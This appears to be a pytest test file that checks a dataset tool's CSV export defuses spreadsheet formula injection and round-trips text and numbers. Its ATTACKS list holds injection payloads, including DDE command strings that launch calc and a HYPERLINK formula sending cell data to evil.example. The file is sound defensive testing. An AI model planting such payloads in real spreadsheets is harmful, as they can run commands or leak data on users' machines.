"""No CSV of ours holds a cell that a spreadsheet would run, and each is read back as it was."""

from __future__ import annotations

import csv
import io
import math
from typing import TYPE_CHECKING

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from curator.collect.imports.labels import from_table
from curator.hashing import sha256_of
from curator.project import Project
from curator.spreadsheets import csv_text, harmless, plain
from tests.pictures import write_picture

if TYPE_CHECKING:
    from pathlib import Path


ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    " =1+1",
    '"=1+1',
    "'=1+1",
    " \"'=1+1",
    "\uff1d1+1",
    "\u00a0=1+1",
    "-",
    "+",
    "=",
    "@",
    "-1e",
    "+49 (0) 123",
]
SAFE = [
    "",
    "a=b",
    "'tis",
    "https://a.org/?x=-1",
    "train/a/b.png",
    "-1",
    "+1.5",
    "-1e-3",
    "1-2",
    "é",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_written_as_text(text: str) -> None:
    """The cell begins with a quote, which every spreadsheet takes as: what follows is text."""
    assert harmless(text) == "'" + text
    (_, row) = csv.reader(io.StringIO(csv_text(pd.DataFrame({"a": [text]})), newline=""))
    assert row == ["'" + text]


@pytest.mark.parametrize("text", SAFE)
def test_what_is_no_formula_stays(text: str) -> None:
    """Ordinary texts, and texts that are numbers, are written as they are."""
    assert harmless(text) == text


@pytest.mark.slow
@given(st.one_of(st.text(), st.text(alphabet="'=+-@ \t\r\n\"1ae.\uff1d")))
def test_every_text_comes_back(text: str) -> None:
    """Written and read again, any text is what it was; what is written begins no formula."""
    written = harmless(text)
    assert plain(written) == text
    assert written[:1] not in tuple("=@\t\r\n")


@pytest.mark.slow
@given(st.lists(st.tuples(st.text(alphabet="'=+-@ ,;\t\r\n\"1a"), st.integers(), st.floats())))
def test_tables_come_back(rows: list[tuple[str, int, float]]) -> None:
    """Through a file, texts come back as they were, and numbers, negative ones too, as numbers."""
    table = pd.DataFrame(rows, columns=["=text", "whole", "real"]).astype(
        {"=text": object, "whole": object if not rows else "float64", "real": "float64"}
    )
    said = csv_text(table)
    read = list(csv.reader(io.StringIO(said, newline="")))
    assert [plain(cell) for cell in read[0]] == ["=text", "whole", "real"]
    for cells, (text, whole, real) in zip(read[1:], rows, strict=True):
        assert plain(cells[0]) == text
        assert float(cells[1]) == float(whole)
        assert cells[2] == "" if math.isnan(real) else float(cells[2]) == real


def test_negative_numbers_stay_numbers() -> None:
    """A column of numbers is read as numbers, also where it has gaps."""
    table = pd.DataFrame({"score": [-0.5, None], "count": [-1, 2]})
    table["mixed"] = pd.Series([-3, "=x"], dtype=object)
    read = pd.read_csv(io.StringIO(csv_text(table)))
    assert read["score"].tolist()[0] == -0.5
    assert read["count"].tolist() == [-1, 2]
    assert read["mixed"].tolist() == ["-3", "'=x"]


@pytest.fixture
def hostile(tmp_path: Path) -> Project:
    """Give a project whose classes, files and folder begin as formulas do."""
    root = tmp_path / "pictures"
    for number, name in enumerate(("=1+1", "-2+3", "@now")):
        for copy in range(3):
            file = f"+cmd' {copy}.png"
            write_picture(root / name / file, 10 * number + copy)
    with Project.create(tmp_path / "hostile") as project:
        project.import_files(root)
        return project


def test_what_we_write_and_read_again(hostile: Project, tmp_path: Path) -> None:
    """The manifest runs nothing, names each file rightly, and imports as it was exported."""
    out = tmp_path / "out"
    with hostile:
        hostile.export(out)
    with (out / "manifest.csv").open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == 9
    for row in rows:
        assert not any(cell[:1] in tuple("=+-@\t\r") for cell in row.values() if cell)
        assert sha256_of(out / plain(row["file_name"])) == row["sha256"]
    assert {plain(row["label"]) for row in rows} == {"=1+1", "-2+3", "@now"}
    labels = {item.label for item in from_table(out, out / "manifest.csv")}
    assert labels == {"=1+1", "-2+3", "@now"}
